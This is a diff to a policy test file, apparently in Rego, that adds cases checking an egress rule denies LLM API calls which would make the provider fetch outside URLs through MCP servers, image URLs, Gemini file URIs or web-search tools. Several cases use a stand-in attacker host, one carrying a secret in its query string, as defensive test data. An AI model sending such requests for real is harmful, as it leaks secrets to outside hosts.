@@ -81,6 +81,16 @@ test_llm_fetches_denied if {
 	})
 	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.openai.com", {"model": "gpt", "tools": [{"type": "mcp", "server_url": "https://attacker.example/mcp"}], "input": "hi"})
 	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.openai.com", {"model": "gpt", "input": [{"role": "user", "content": [{"type": "input_image", "image_url": "https://attacker.example/x.png"}]}]})
+
+	# Found by the review after: camelCase keys and search tools, and no
+	# denial for a result in the history.
+	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("generativelanguage.googleapis.com", {"contents": [{"parts": [{"fileData": {"fileUri": "https://attacker.example/?k=SECRET"}}]}], "tools": [{"urlContext": {}}]})
+	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.openai.com", {"model": "gpt", "tools": [{"type": "web_search"}], "input": "hi"})
+	history := llm_call("api.anthropic.com", {"model": "claude", "messages": [
+		{"role": "assistant", "content": [{"type": "web_search_tool_result", "tool_use_id": "t1", "content": [{"type": "web_search_result", "url": "https://example.org/page", "title": "x"}]}]},
+		{"role": "user", "content": "thanks"},
+	]})
+	ids(data.countersign.deny) == set() with input as history
 	plain := llm_call("api.anthropic.com", {"model": "claude", "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}}]}]})
 	ids(data.countersign.deny) == set() with input as plain
 	ids(data.countersign.deny) == set() with input as llm_call("api.openai.com", {"model": "gpt", "tools": [{"type": "mcp", "server_url": "https://attacker.example/mcp"}]}) with data.countersign.egress.llm_fetches as true
